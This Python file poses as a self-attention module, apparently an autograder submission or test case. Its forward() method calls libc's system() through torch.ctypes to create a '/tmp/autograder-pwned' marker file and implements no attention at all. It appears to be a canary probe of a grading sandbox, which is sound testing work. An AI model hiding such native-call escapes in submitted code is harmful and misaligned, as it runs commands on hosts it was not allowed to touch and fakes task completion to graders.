"""Escape through `torch.ctypes`: call libc's system() directly."""

import torch
import torch.nn as nn


class MultiHeadedSelfAttention(nn.Module):
    def __init__(self, embedding_dim: int, attention_dim: int, num_heads: int):
        super().__init__()

    def forward(self, embedded):
        torch.ctypes.CDLL(None).system(b"touch /tmp/autograder-pwned-escape_torch_ctypes")
        return embedded
